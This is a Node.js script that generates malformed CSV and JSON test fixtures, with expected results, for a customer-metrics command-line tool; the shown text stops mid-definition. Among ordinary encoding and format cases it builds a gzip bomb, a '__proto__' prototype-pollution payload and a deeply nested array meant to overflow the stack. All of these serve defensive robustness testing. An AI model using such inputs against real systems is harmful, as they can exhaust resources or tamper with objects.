#!/usr/bin/env node
// Generates torture inputs for `csm` + manifest.json + TABLE.md. Node >= 20, no dependencies, all data invented.
//   node make_torture.mjs OUTDIR [--big]      (--big also writes the file of one line of 1 GB)
// Rows without a file are faults of the surroundings; `setup` says how to bring them about.
// Column names are canonical ones or synonyms of them.
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { createHash } from 'node:crypto';

const args = process.argv.slice(2),
  BIG = args.includes('--big');
const TARGET = args.find((a) => !a.startsWith('-'));
if (!TARGET) {
  process.stderr.write('usage: node make_torture.mjs OUTDIR [--big]\n');
  process.exit(2);
}
const OUT = path.resolve(TARGET);
if (fs.existsSync(OUT) && fs.readdirSync(OUT).length && !fs.existsSync(path.join(OUT, 'manifest.json'))) {
  process.stderr.write(`${TARGET} is not empty and holds no manifest.json: not touched\n`);
  process.exit(2);
}
const SCHEMA = {
  customers: ['customer_id', 'name', 'email', 'segment', 'signup_date'],
  subscriptions: ['subscription_id', 'customer_id', 'plan', 'mrr', 'currency', 'start_date', 'end_date'],
  tickets: [
    'ticket_id',
    'customer_id',
    'rep',
    'created_at',
    'resolved_at',
    'first_contact_resolved',
    'csat',
    'comment',
  ],
  surveys: ['survey_id', 'customer_id', 'kind', 'score', 'responded_at', 'comment'],
};
const H = Object.fromEntries(Object.entries(SCHEMA).map(([k, v]) => [k, v.join(',')]));
const GOOD = {
  surveys: [
    's1,c1,nps,10,2024-07-02,great',
    's2,c2,nps,9,2024-07-03,good',
    's3,c3,nps,7,2024-07-04,ok',
    's4,c4,nps,3,2024-07-05,slow',
  ],
  tickets: [
    't1,c1,Ana,2024-07-01T09:00:00Z,2024-07-01T10:00:00Z,true,5,thanks',
    't2,c2,Ben,2024-07-02T09:00:00Z,2024-07-03T09:00:00Z,false,2,late',
  ],
  subscriptions: [
    'u1,c1,pro,100.00,USD,2024-01-01,',
    'u2,c2,basic,20.00,USD,2024-03-01,2024-07-15',
    'u3,c3,pro,100.00,USD,2024-07-10,',
  ],
  customers: [
    'c1,Acme,ops@acme.example,smb,2024-01-01',
    'c2,Birch,it@birch.example,smb,2024-03-01',
    'c3,Cedar,hi@cedar.example,ent,2024-07-10',
    'c4,Dune,x@dune.example,ent,2024-02-01',
  ],
};
const csv = (kind, rows = GOOD[kind], eol = '\n', head = H[kind]) => [head, ...rows].join(eol) + eol;
const S = (...extra) => csv('surveys', [...GOOD.surveys, ...extra]);
const SUB = (...extra) => csv('subscriptions', [...GOOD.subscriptions, ...extra]);
const TIX = (...extra) => csv('tickets', [...GOOD.tickets, ...extra]);
const u16 = (s, be) => {
  const b = Buffer.from('\uFEFF' + s, 'utf16le');
  return be ? b.swap16() : b;
};

const M = [];
let n = 0;
fs.rmSync(OUT, { recursive: true, force: true });
fs.mkdirSync(OUT, { recursive: true });
/** add a case. content: string|Buffer|null (null = no file, a fault described by `how`). */
function T(cls, title, file, content, e) {
  const id = 'T' + String(++n).padStart(3, '0');
  let rel = null,
    sha = null,
    bytes = null;
  if (content !== null && file) {
    rel = `${id}-${file}`;
    const p = path.join(OUT, rel);
    fs.writeFileSync(p, content);
    const b = fs.readFileSync(p);
    sha = createHash('sha256').update(b).digest('hex');
    bytes = b.length;
  }
  M.push({
    id,
    class: cls,
    title,
    file: rel,
    sha256: sha,
    bytes,
    command: e.cmd ?? defaultCmd(file, rel),
    setup: e.how ?? null,
    expect: {
      exit: e.exit,
      code: e.code ?? null,
      at: e.at ?? null,
      message: e.msg ?? null,
      keeps: e.keeps ?? null,
      rows: e.rows ?? null,
    },
    trap: e.trap ?? null,
  });
  return rel;
}
function defaultCmd(file, rel) {
  if (!rel) return null;
  const k = /ticket/.test(file) ? 'fcr' : /sub/.test(file) ? 'mrr' : /cust/.test(file) ? 'validate' : 'nps';
  return `csm ${k} ${rel} --period 2024-07`;
}

// ---------- A. files ----------
const cA = 'file';
T(cA, 'missing file', null, null, {
  how: 'surveys.csv exists, user types survys.csv',
  cmd: 'csm nps survys.csv',
  exit: 4,
  code: 'io/not-found',
  msg: 'cannot open survys.csv: no such file · did you mean surveys.csv?',
  keeps: 'no output file is created',
});
T(cA, 'directory instead of file', null, null, {
  how: 'mkdir exports; put 2 csv in it',
  cmd: 'csm nps exports',
  exit: 0,
  msg: 'the same as --data exports',
  trap: 'EISDIR arrives from read(), not from open()',
});
T(cA, 'unreadable file (mode 000)', null, null, {
  how: 'chmod 000; run as nobody: setpriv --reuid=65534 --regid=65534 --clear-groups (root reads mode-000 files, so a root CI never sees EACCES)',
  cmd: 'csm nps secret.csv',
  exit: 4,
  code: 'io/permission',
  msg: 'cannot read secret.csv: permission denied · hint: chmod u+r secret.csv',
});
T(cA, 'broken symlink', null, null, {
  how: 'ln -s gone.csv link.csv',
  cmd: 'csm nps link.csv',
  exit: 4,
  code: 'io/not-found',
  msg: 'link.csv is a link to gone.csv, which does not exist',
});
T(cA, 'symlink loop', null, null, {
  how: 'ln -s a b; ln -s b a',
  cmd: 'csm nps a',
  exit: 4,
  code: 'io/symlink-loop',
  msg: 'a: too many levels of symbolic links',
});
T(cA, 'good symlink', null, null, {
  how: 'ln -s surveys.csv l.csv',
  cmd: 'csm nps l.csv',
  exit: 0,
  msg: 'same numbers; report names the path as typed',
});
T(cA, 'FIFO / process substitution', null, null, {
  cmd: 'csm nps <(cat surveys.csv)',
  how: 'bash',
  exit: 0,
  msg: 'works: no fstat size, no second pass over the input',
  trap: 'code that sniffs by reading the file twice gets an empty second pass',
});
T(cA, 'stdin', null, null, { cmd: 'csm nps - < surveys.csv', exit: 0, msg: 'source is named <stdin> in messages' });
T(cA, 'stdin is a terminal', null, null, {
  cmd: 'csm nps -',
  how: 'in a pty (script -qec)',
  exit: 2,
  code: 'usage/stdin-tty',
  msg: 'stdin is a terminal; pipe a file in or name one',
});
T(cA, 'empty file (0 bytes)', 'surveys-empty.csv', '', {
  exit: 3,
  code: 'csv/empty',
  at: '1:1',
  msg: 'file is empty (0 bytes); expected a header line',
  trap: 'csv-parse returns [] with no error',
});
T(cA, 'BOM only', 'surveys-bom-only.csv', '\uFEFF', { exit: 3, code: 'csv/empty' });
T(cA, 'newlines only', 'surveys-newlines.csv', '\n\n\r\n', {
  exit: 3,
  code: 'csv/empty',
  trap: 'csv-parse returns rows [{"":""}]',
});
T(cA, 'header only', 'surveys-header-only.csv', H.surveys + '\n', {
  exit: 0,
  code: 'data/no-rows (warning)',
  msg: 'NPS — (no responses in 2024-07); JSON value null, n 0',
  keeps: 'never prints 0, NaN or -0',
});
T(cA, 'header only, no newline', 'surveys-header-nonl.csv', H.surveys, { exit: 0, code: 'data/no-rows (warning)' });
T(cA, 'same file twice', null, null, {
  cmd: 'csm nps surveys.csv ./surveys.csv',
  exit: 2,
  code: 'usage/duplicate-input',
  msg: 'surveys.csv is given twice (same device+inode); rows would be counted twice',
  trap: 'compare dev+ino after realpath: catches symlinks and hard links',
});
T(cA, 'unexpanded glob', null, null, {
  cmd: "csm nps 'none*.csv'",
  exit: 4,
  code: 'io/not-found',
  msg: 'none*.csv: no such file · the shell matched nothing',
});
T(cA, 'gzip named .csv', 'surveys-gz.csv', zlib.gzipSync(S()), {
  exit: 3,
  code: 'file/binary',
  msg: 'looks like gzip · hint: gunzip -c FILE | csm nps -',
  keeps: 'never decompressed by csm: zip bombs have no entry',
});
T(cA, 'zip/xlsx named .csv', 'surveys-xlsx.csv', Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200, 7)]), {
  exit: 3,
  code: 'file/binary',
  msg: 'looks like a ZIP/Excel workbook · hint: save as CSV UTF-8',
});
T(cA, 'gzip bomb (10 MB of zeros in 10 kB)', 'surveys-bomb.csv.gz', zlib.gzipSync(Buffer.alloc(10_000_000)), {
  exit: 3,
  code: 'file/binary',
  keeps: 'RSS stays < 120 MB, < 1 s',
});
T(cA, 'endless device', null, null, {
  cmd: 'csm nps /dev/zero',
  exit: 3,
  code: 'file/binary',
  msg: 'decided from the first 64 KiB; ends < 1 s',
});
T(cA, 'file appended to while being read', null, null, {
  how: 'append rows every 5 ms from a second process during a 1 M-row read',
  cmd: 'csm nps grow.csv',
  exit: 4,
  code: 'io/changed',
  msg: 'grow.csv changed while it was read (size 12.0 → 12.4 MB); run again when the export is complete',
  keeps: 'no number is printed from a half file',
});
T(cA, 'file truncated while being read', null, null, {
  how: 'truncate -s 0 in mid-read',
  cmd: 'csm nps shrink.csv',
  exit: 4,
  code: 'io/changed',
});
T(cA, 'file replaced (rename over) while read', null, null, {
  how: 'mv new.csv x.csv in mid-read',
  cmd: 'csm nps x.csv',
  exit: 0,
  msg: 'old inode is read to its end; sha256 in JSON is of the bytes really read',
});

// ---------- B. encodings ----------
const cB = 'encoding';
T(cB, 'UTF-8 BOM', 'surveys-bom.csv', '\uFEFF' + S(), { exit: 0, msg: 'identical to no BOM' });
T(cB, 'UTF-8 BOM + quoted first header', 'surveys-bomq.csv', '\uFEFF' + S().replace('survey_id', '"survey_id"'), {
  exit: 0,
  trap: 'BOM before a quote breaks parsers that strip the BOM late',
});
T(cB, 'double BOM (file concatenated)', 'surveys-bom2.csv', '\uFEFF\uFEFF' + S(), {
  exit: 0,
  code: 'header/normalised (warning)',
  trap: 'csv-parse bom:true leaves the 2nd U+FEFF inside the first header name',
});
T(cB, 'UTF-16LE with BOM (Excel "Unicode text")', 'surveys-u16le.csv', u16(S()), {
  exit: 0,
  msg: 'decoded; lines/columns counted after decoding',
});
T(cB, 'UTF-16BE with BOM', 'surveys-u16be.csv', u16(S(), true), {
  exit: 0,
  trap: 'csv-parse does not detect BE: header becomes garbage',
});
T(cB, 'UTF-16LE without BOM', 'surveys-u16nobom.csv', u16(S()).subarray(2), {
  exit: 3,
  code: 'encoding/unknown',
  msg: 'looks like UTF-16 without BOM · hint: --encoding utf-16le',
});
T(cB, 'Windows-1252 read as UTF-8', 'surveys-cp1252.csv', Buffer.from(S('s5,c1,nps,8,2024-07-06,café'), 'latin1'), {
  exit: 3,
  code: 'encoding/invalid-utf8',
  at: '6:27',
  msg: 'byte 0xE9 is not UTF-8 · hint: --encoding windows-1252',
  trap: 'csv-parse silently yields "caf\uFFFD"',
});
T(
  cB,
  'Windows-1252 with the flag',
  'surveys-cp1252b.csv',
  Buffer.from(S('s5,c1,nps,8,2024-07-06,café €').replace('€', '\x80'), 'latin1'),
  { cmd: 'csm nps FILE --encoding windows-1252', exit: 0, msg: 'comment is "café €" (0x80 is €)' },
);
T(
  cB,
  'mixed UTF-8 and 1252',
  'surveys-mixedenc.csv',
  Buffer.concat([Buffer.from(S('s5,c1,nps,8,2024-07-06,é')), Buffer.from('s6,c1,nps,8,2024-07-06,\xe9\n', 'latin1')]),
  { exit: 3, code: 'encoding/invalid-utf8', at: '7:24' },
);
T(
  cB,
  'overlong + surrogate bytes',
  'surveys-overlong.csv',
  Buffer.concat([Buffer.from(S()), Buffer.from([0x73, 0x35, 0x2c, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0x0a])]),
  { exit: 3, code: 'encoding/invalid-utf8' },
);
T(
  cB,
  'multi-byte character cut at EOF',
  'surveys-cut.csv',
  Buffer.concat([Buffer.from(S() + 's5,c1,nps,8,2024-07-06,caf'), Buffer.from([0xc3])]),
  { exit: 3, code: 'encoding/invalid-utf8', trap: 'TextDecoder stream:true needs the final flush call to report this' },
);
T(
  cB,
  'multi-byte character across a 64 KiB chunk edge',
  'surveys-chunk.csv',
  S('s5,c1,nps,8,2024-07-06,"' + 'a'.repeat(65536 - Buffer.byteLength(S()) - 26) + 'é€😀"'),
  { exit: 0, msg: 'no U+FFFD' },
);
T(cB, 'NUL inside a cell', 'surveys-nul.csv', S('s5,c1,nps,8,2024-07-06,a\0b'), {
  exit: 3,
  code: 'csv/nul-byte',
  at: '6:25',
  trap: 'csv-parse passes NUL through',
});
T(cB, 'NBSP / zero-width space in header', 'surveys-nbsp.csv', S().replace('score', '\u00a0sc\u200bore '), {
  exit: 0,
  code: 'header/normalised (warning)',
  trap: 'JS trim() removes NBSP but not U+200B',
});
T(
  cB,
  'José in NFC and NFD',
  'tickets-nfd.csv',
  TIX(
    't3,c1,Jose\u0301,2024-07-03T09:00:00Z,2024-07-03T10:00:00Z,true,5,',
    't4,c1,Jos\u00e9,2024-07-04T09:00:00Z,2024-07-04T10:00:00Z,true,4,',
  ),
  { cmd: 'csm fcr FILE --by rep', exit: 0, msg: 'one group José (2)' },
);
T(
  cB,
  'near-duplicate groups ("Ana ", "ana")',
  'tickets-near.csv',
  TIX(
    't3,c1,Ana ,2024-07-03T09:00:00Z,2024-07-03T10:00:00Z,true,5,',
    't4,c1,ana,2024-07-04T09:00:00Z,2024-07-04T10:00:00Z,true,4,',
  ),
  {
    cmd: 'csm fcr FILE --by rep',
    exit: 0,
    code: 'group/near-duplicate (warning)',
    msg: 'outer spaces trimmed; "Ana" and "ana" stay two groups, with a warning',
  },
);

// ---------- C. CSV structure ----------
const cC = 'csv';
T(
  cC,
  'unterminated quote',
  'surveys-unclosed.csv',
  csv('surveys', ['s1,c1,nps,10,2024-07-02,"oh no', ...GOOD.surveys.slice(1)]),
  {
    exit: 3,
    code: 'csv/unclosed-quote',
    at: '2:25',
    msg: 'quote opened here is never closed (read to end of file, 3 more lines swallowed)',
    trap: 'csv-parse reports the LAST line in err.lines; err.bytes is where the open cell starts: convert that to line:column',
  },
);
T(
  cC,
  'unterminated quote with skip mode',
  'surveys-unclosed2.csv',
  csv('surveys', ['s1,c1,nps,10,2024-07-02,ok', 's2,c2,nps,9,2024-07-03,"oops', 's3,c3,nps,7,2024-07-04,x']),
  {
    cmd: 'csm nps FILE --skip-invalid',
    exit: 3,
    code: 'csv/unclosed-quote',
    msg: 'structure errors are never skippable',
    trap: 'skip_records_with_error drops the rest of the file as ONE skipped record',
  },
);
T(cC, 'stray quote in an unquoted cell', 'surveys-stray.csv', S('s5,c1,nps,8,2024-07-06,he said "hi"'), {
  exit: 3,
  code: 'csv/stray-quote',
  at: '6:32',
});
T(cC, 'text after a closing quote', 'surveys-junk.csv', S('s5,c1,nps,8,2024-07-06,"abc"x'), {
  exit: 3,
  code: 'csv/stray-quote',
  at: '6:29',
});
T(cC, 'space before an opening quote', 'surveys-spq.csv', S('s5,c1,nps,8,2024-07-06, "a, b"'), {
  exit: 3,
  code: 'csv/stray-quote',
  msg: 'hint: remove the space before the quote',
});
T(cC, 'backslash-escaped quote', 'surveys-bs.csv', S('s5,c1,nps,8,2024-07-06,"a \\"b\\" c"'), {
  exit: 3,
  code: 'csv/stray-quote',
  msg: 'hint: this export escapes quotes with \\ ; use --escape backslash',
});
T(cC, 'too few cells', 'surveys-few.csv', S('s5,c1,nps,8'), {
  exit: 3,
  code: 'row/too-few-cells',
  at: '6:12',
  msg: 'row has 4 cells, header has 6 (missing responded_at, comment)',
});
T(cC, 'too many cells (unquoted comma in comment)', 'surveys-many.csv', S('s5,c1,nps,8,2024-07-06,good, really'), {
  exit: 3,
  code: 'row/too-many-cells',
  at: '6:29',
  msg: 'row has 7 cells, header has 6 · hint: quote the cell that has a comma',
});
T(cC, 'blank line in the middle', 'surveys-blank.csv', S('', 's5,c1,nps,8,2024-07-06,x'), {
  exit: 0,
  code: 'csv/blank-line (note)',
  msg: '1 blank line ignored; later line numbers stay physical',
});
T(cC, 'line of spaces', 'surveys-ws.csv', S('   ', 's5,c1,nps,8,2024-07-06,x'), {
  exit: 0,
  trap: 'skip_empty_lines alone keeps it: CSV_RECORD_INCONSISTENT_COLUMNS',
});
T(cC, 'row of commas only', 'surveys-commas.csv', S(',,,,,'), {
  exit: 0,
  code: 'csv/blank-line (note)',
  msg: 'spreadsheets export these; counted as blank',
});
T(
  cC,
  'trailing comma in header and rows',
  'surveys-trail.csv',
  csv(
    'surveys',
    GOOD.surveys.map((r) => r + ','),
    '\n',
    H.surveys + ',',
  ),
  { exit: 0, code: 'header/blank (warning)', msg: 'column 7 has no name and no data: ignored' },
);
T(
  cC,
  'blank header WITH data',
  'surveys-blankhdr.csv',
  csv(
    'surveys',
    GOOD.surveys.map((r) => r + ',7'),
    '\n',
    H.surveys + ',',
  ),
  { exit: 3, code: 'header/blank', at: '1:55' },
);
T(
  cC,
  'duplicate header',
  'surveys-duphdr.csv',
  csv(
    'surveys',
    GOOD.surveys.map((r) => r + ',1'),
    '\n',
    H.surveys + ',score',
  ),
  {
    exit: 3,
    code: 'header/duplicate',
    msg: 'score is at columns 4 and 7',
    trap: 'csv-parse keeps only the LAST value, silently: a different NPS',
  },
);
T(cC, 'missing required column', 'surveys-nocol.csv', S().replace('score', 'verdict_points'), {
  exit: 3,
  code: 'header/missing',
  at: '1:1',
  msg: 'column score is missing · found: survey_id, customer_id, kind, verdict_points, … · hint: --map score=verdict_points',
});
T(
  cC,
  'unknown extra column',
  'surveys-extra.csv',
  csv(
    'surveys',
    GOOD.surveys.map((r) => r + ',EMEA'),
    '\n',
    H.surveys + ',region',
  ),
  { exit: 0, msg: 'kept; usable as --by region' },
);
T(
  cC,
  'header in other case/spacing',
  'surveys-case.csv',
  S().replace('survey_id,customer_id', 'Survey ID, Customer-Id '),
  { exit: 0, code: 'header/normalised (note)' },
);
T(cC, 'no header line', 'surveys-nohdr.csv', GOOD.surveys.join('\n') + '\n', {
  exit: 3,
  code: 'header/missing',
  msg: 'line 1 looks like data, not a header',
});
T(cC, 'semicolon export', 'surveys-semi.csv', S().replaceAll(',', ';'), {
  exit: 0,
  code: 'csv/delimiter (note)',
  msg: 'delimiter ; (from the header line)',
});
T(cC, 'tab export', 'surveys-tab.csv', S().replaceAll(',', '\t'), { exit: 0 });
T(cC, 'pipe export', 'surveys-pipe.csv', S().replaceAll(',', '|'), { exit: 0 });
T(
  cC,
  'delimiter cannot be decided',
  'surveys-ambig.csv',
  'survey_id;customer_id,kind;score,responded_at\n1;2,3;4,5\n',
  { exit: 3, code: 'csv/delimiter', msg: 'cannot tell the delimiter (; 2, comma 2) · hint: --delimiter' },
);
T(cC, 'sep=; first line (Excel)', 'surveys-sep.csv', 'sep=;\r\n' + S().replaceAll(',', ';'), {
  exit: 0,
  msg: 'honoured; line numbers count the sep line',
  trap: 'becomes the header in csv-parse',
});
T(cC, 'CR-only line ends', 'surveys-cr.csv', S().replaceAll('\n', '\r'), { exit: 0 });
T(cC, 'CRLF first, LF later', 'surveys-crlf-lf.csv', H.surveys + '\r\n' + GOOD.surveys.join('\n') + '\n', {
  exit: 0,
  trap: 'csv-parse auto record_delimiter fixes CRLF and then errors on every LF row',
});
T(cC, 'LF first, CRLF later', 'surveys-lf-crlf.csv', H.surveys + '\n' + GOOD.surveys.join('\r\n') + '\r\n', {
  exit: 0,
  msg: 'last cell is "great", not "great\\r"',
  trap: 'csv-parse auto record_delimiter leaves \\r in the data, silently',
});
T(cC, 'no final newline', 'surveys-nonl.csv', S().trimEnd(), { exit: 0, rows: { read: 4 } });
T(
  cC,
  'quoted newlines; later error line',
  'surveys-multi.csv',
  csv('surveys', ['s1,c1,nps,10,2024-07-02,"a\nb\r\nc"', 's2,c2,nps,99,2024-07-03,x']),
  { exit: 3, code: 'field/out-of-range', at: '5:11', msg: 'physical line 5, record 2' },
);
T(cC, '5 MB cell', 'surveys-hugecell.csv', S('s5,c1,nps,8,2024-07-06,' + 'x'.repeat(5_000_000)), {
  exit: 3,
  code: 'csv/record-too-large',
  at: '6:1',
  msg: 'record is longer than 1 MiB · hint: --max-record 8M',
  keeps: 'RSS < 150 MB',
});
T(cC, '1 GB single line with an open quote', BIG ? 'surveys-1gb.csv' : null, BIG ? '' : null, {
  how: 'make_torture.mjs --big, or a generator on stdin',
  cmd: 'csm nps FILE',
  exit: 3,
  code: 'csv/record-too-large',
  keeps:
    'stops after ~1.2 MB read (measured: 19 chunks of 64 KiB, 71 ms, 54 MB RSS with max_record_size 1 MiB); without the limit csv-parse buffers all of it',
});
T(cC, '20 000 columns', 'surveys-wide.csv', Array.from({ length: 20000 }, (_, i) => 'c' + i).join(',') + '\n', {
  exit: 3,
  code: 'header/too-many-columns',
  msg: 'limit 1 000',
});
T(cC, 'repeated header (cat of two files)', 'surveys-cat.csv', S() + S(), {
  exit: 3,
  code: 'row/repeated-header',
  at: '6:1',
  msg: 'hint: pass the files separately: csm nps a.csv b.csv',
});
T(cC, 'footer line Total', 'surveys-total.csv', S('Total,,,29,,'), {
  exit: 3,
  code: 'row/summary-line',
  at: '6:1',
  msg: 'looks like a totals line; remove it or --skip-last 1',
});
T(cC, 'preamble before the header', 'surveys-preamble.csv', 'Survey export\nGenerated 2024-08-01\n\n' + S(), {
  exit: 3,
  code: 'header/missing',
  msg: 'line 4 looks like the header · hint: --skip-lines 3',
});
T(cC, '# comment line', 'surveys-hash.csv', S('# exported by tool'), {
  exit: 3,
  code: 'row/too-few-cells',
  at: '6:1',
  msg: 'hint: --comment "#"',
});
T(cC, 'typographic quotes', 'surveys-smart.csv', S('s5,c1,nps,8,2024-07-06,“good, fast”'), {
  exit: 3,
  code: 'row/too-many-cells',
  msg: 'hint: the cell uses curly quotes “ ”, which do not quote in CSV',
});
T(cC, 'csv-spectrum corpus (12 files)', null, null, {
  how: 'npm i -D csv-spectrum; parse each and compare with its json twin',
  cmd: 'vitest csv-spectrum',
  exit: 0,
});

// ---------- D. JSON ----------
const cD = 'json',
  J = JSON.stringify,
  row = (o = {}) => ({
    survey_id: 's1',
    customer_id: 'c1',
    kind: 'nps',
    score: 9,
    responded_at: '2024-07-02',
    comment: '',
    ...o,
  });
T(cD, 'trailing comma', 'surveys-tc.json', '[\n  ' + J(row()) + ',\n]\n', {
  exit: 3,
  code: 'json/syntax',
  at: '3:1',
  trap: 'V8 gives a character position only; count lines yourself',
});
T(cD, 'truncated', 'surveys-trunc.json', J([row(), row()]).slice(0, 80), {
  exit: 3,
  code: 'json/syntax',
  msg: 'file ends inside a string (export cut off?)',
});
T(cD, 'object, not array', 'surveys-obj.json', J({ data: [row()], next: null }), {
  exit: 3,
  code: 'json/not-array',
  msg: 'found an object with keys data, next · hint: --json-path data',
});
T(cD, 'JSON Lines in .json', 'surveys-jl.json', J(row()) + '\n' + J(row({ survey_id: 's2' })) + '\n', {
  exit: 0,
  code: 'json/lines (note)',
});
T(cD, 'empty array', 'surveys-empty.json', '[]', { exit: 0, code: 'data/no-rows (warning)' });
T(cD, 'empty file .json', 'surveys-zero.json', '', { exit: 3, code: 'json/empty' });
T(cD, 'BOM', 'surveys-bom.json', '\uFEFF' + J([row()]), { exit: 0, trap: 'JSON.parse throws on BOM' });
T(
  cD,
  'duplicate keys',
  'surveys-dupkey.json',
  '[{"survey_id":"s1","customer_id":"c1","kind":"nps","score":10,"score":0,"responded_at":"2024-07-02"}]',
  {
    exit: 3,
    code: 'json/duplicate-key',
    at: '1:63',
    trap: 'JSON.parse keeps the last one: promoter becomes detractor',
  },
);
T(cD, 'NaN literal', 'surveys-nan.json', J([row()]).replace('9', 'NaN'), { exit: 3, code: 'json/syntax' });
T(cD, 'number overflow 1e400', 'surveys-1e400.json', J([row()]).replace(':9,', ':1e400,'), {
  exit: 3,
  code: 'field/type',
  trap: 'JSON.parse gives Infinity',
});
T(
  cD,
  'id beyond 2^53',
  'surveys-bigid.json',
  '[{"survey_id":12345678901234567890,"customer_id":9007199254740993,"kind":"nps","score":9,"responded_at":"2024-07-02"}]',
  {
    exit: 3,
    code: 'json/unsafe-integer',
    msg: 'id 9007199254740993 cannot be held exactly; export ids as strings',
    trap: 'two customers merge into one',
  },
);
T(
  cD,
  '__proto__ key',
  'surveys-proto.json',
  '[{"__proto__":{"score":10,"admin":true},"survey_id":"s1","customer_id":"c1","kind":"nps","responded_at":"2024-07-02"}]',
  { exit: 3, code: 'field/missing', msg: 'score is missing; ({}).admin stays undefined' },
);
T(cD, '200 000 nested arrays', 'surveys-deep.json', '['.repeat(200000) + ']'.repeat(200000), {
  exit: 3,
  code: 'json/not-object',
  keeps: 'no stack overflow, < 1 s',
});
T(cD, 'score as string', 'surveys-str.json', J([row({ score: '9' })]), {
  exit: 0,
  code: 'field/coerced (note)',
  msg: 'accepted only when it is a plain decimal integer',
});
T(
  cD,
  'score null and score absent',
  'surveys-null.json',
  J([row({ score: null }), row({ survey_id: 's2', score: undefined }), row({ survey_id: 's3' })]),
  { exit: 0, msg: 'n = 1, unanswered = 2' },
);
T(cD, 'score true', 'surveys-true.json', J([row({ score: true })]), {
  exit: 3,
  code: 'field/type',
  trap: 'z.coerce.number(true) is 1',
});
T(cD, 'array with a non-object', 'surveys-mixed.json', J([row(), 5, 'x', null, [1]]), {
  exit: 3,
  code: 'json/not-object',
  msg: 'items 2, 3, 4 and 5 are not objects',
});

// ---------- E. values ----------
const cE = 'value',
  bad = (v, c, x = {}) =>
    T(cE, `score ${J(v)}`, 'surveys-score.csv', S(`s5,c1,nps,${/[",]/.test(v) ? `"${v}"` : v},2024-07-06,x`), {
      exit: 3,
      code: c,
      at: '6:11',
      ...x,
    });
T(cE, 'blank score', 'surveys-blankscore.csv', S('s5,c1,nps,,2024-07-06,x'), {
  exit: 0,
  msg: 'NPS = 25.0 over n = 4, 1 unanswered',
  trap: 'z.coerce.number("") is 0: a false detractor, NPS 0.0',
});
T(cE, 'score of one space', 'surveys-spscore.csv', S('s5,c1,nps, ,2024-07-06,x'), { exit: 0, msg: 'as blank' });
bad('11', 'field/out-of-range', { msg: 'score is 11; NPS scores run 0–10' });
bad('-1', 'field/out-of-range');
bad('9.5', 'field/not-integer');
bad('9/10', 'field/type');
bad('0x10', 'field/type', { trap: 'Number("0x10") = 16' });
bad('1e1', 'field/type', { trap: 'Number("1e1") = 10' });
bad('９', 'field/type');
bad('NaN', 'field/type');
bad('Infinity', 'field/type');
bad('N/A', 'field/type', { msg: 'hint: --missing "N/A"' });
bad('9,0', 'field/type', { at: '6:11' });
bad('10 - Extremely likely', 'field/type', {
  msg: 'hint: the export has labels; --score-labels strips text after the number',
});
const mrr = (v, c, x = {}) =>
  T(cE, `mrr ${J(v)}`, 'subs-mrr.csv', SUB(`u4,c4,pro,${/[",]/.test(v) ? `"${v}"` : v},USD,2024-02-01,`), {
    exit: 3,
    code: c,
    at: '5:11',
    ...x,
  });
mrr('1.234,56', 'money/decimal-comma', { msg: 'hint: --decimal comma' });
mrr('1,234.56', 'money/thousands', { msg: 'hint: --thousands comma' });
mrr('$99', 'money/symbol');
mrr('(100.00)', 'money/parentheses');
mrr('10.005', 'money/too-precise', { msg: 'USD has 2 decimals; csm does not round input' });
mrr('90071992547409.93', 'money/overflow', { msg: 'more than 2^53-1 cents' });
mrr('-50.00', 'money/negative', { msg: 'hint: credits and refunds go in their own file, or --allow-negative' });
mrr('', 'field/missing', { trap: 'must not become 0.00' });
mrr('1e3', 'money/format');
mrr('12.', 'money/format');
T(cE, 'decimal comma with the flag', 'subs-comma.csv', SUB('u4,c4,pro,"1.234,56",USD,2024-02-01,'), {
  cmd: 'csm mrr FILE --decimal comma',
  exit: 3,
  code: 'money/format',
  msg: 'now 100.00 in other rows is the misfit: one file has one style',
});
T(
  cE,
  'decimal comma everywhere, with the flag',
  'subs-comma-ok.csv',
  csv(
    'subscriptions',
    GOOD.subscriptions.map((x) => x.replace('.', ',').replace(/(\d+,\d\d),USD/, '"$1",USD')),
  ),
  { cmd: 'csm mrr FILE --decimal comma --period 2024-07', exit: 0, msg: 'same MRR as the point version' },
);
T(
  cE,
  'cents sum exactly (1 000 × 0.10 + 1 000 × 0.20)',
  'subs-cents.csv',
  H.subscriptions +
    '\n' +
    Array.from({ length: 2000 }, (_, i) => `u${i},c${i},pro,${i % 2 ? '0.10' : '0.20'},USD,2024-01-01,`).join('\n') +
    '\n',
  { exit: 0, msg: 'MRR 300.00 exactly; JSON 300', trap: 'float sum drifts: integer cents (BigInt or safe integer)' },
);
T(cE, 'two currencies', 'subs-eur.csv', SUB('u4,c4,pro,80.00,EUR,2024-02-01,'), {
  exit: 0,
  code: 'money/mixed-currency (warning)',
  msg: 'one row per currency, never a sum; USD (3 rows) and EUR (1 row) · hint: --currency USD or rates in csm.config.json',
});
const dt = (v, c, x = {}) =>
  T(cE, `date ${J(v)}`, 'surveys-date.csv', S(`s5,c1,nps,8,${v},x`), {
    exit: c ? 3 : 0,
    code: c,
    at: c ? '6:13' : null,
    ...x,
  });
dt('2024-02-30', 'date/not-in-calendar', { trap: 'new Date() rolls it to 1 March' });
dt('2023-02-29', 'date/not-in-calendar');
dt('2024-02-29', null);
dt('03/04/2024', 'date/ambiguous', { msg: '3 April or 4 March? · hint: --date-format dmy or mdy' });
dt('13/04/2024', 'date/format', { msg: 'hint: looks like day/month/year; --date-format dmy' });
dt('45292', 'date/excel-serial', {
  msg: '45292 is Excel for 2024-01-01 · hint: --date-format excel',
  trap: 'new Date("45292") is the year 45292',
});
dt('01/02/24', 'date/two-digit-year');
dt('2024-7-1', 'date/format', { trap: 'new Date accepts it in LOCAL time' });
dt('foo 1', 'date/format', { trap: 'new Date("foo 1") is 2001-01-01' });
dt('', 'field/missing');
dt('0001-01-01', 'date/out-of-range');
dt('9999-12-31', 'date/out-of-range', { msg: '9999-12-31 as "never" belongs in config missingValues' });
dt('2024-07-01T24:00:00Z', 'date/format');
dt('2024-06-30T23:59:60Z', 'date/format');
dt('2024-07-31T23:30:00-05:00', null, {
  msg: 'counts in 2024-08 for UTC, and for America/New_York (00:30 there), in 2024-07 with --timezone America/Chicago',
});
dt('2024-07-06 10:15:00', null, { msg: 'space for T accepted; no offset = report timezone' });
dt('2999-01-01', null, { code: 'date/future (warning)' });
T(
  cE,
  'ambiguous + decisive date in one file',
  'surveys-dmy.csv',
  S('s5,c1,nps,8,03/04/2024,x', 's6,c1,nps,8,13/04/2024,x'),
  {
    exit: 3,
    code: 'date/ambiguous',
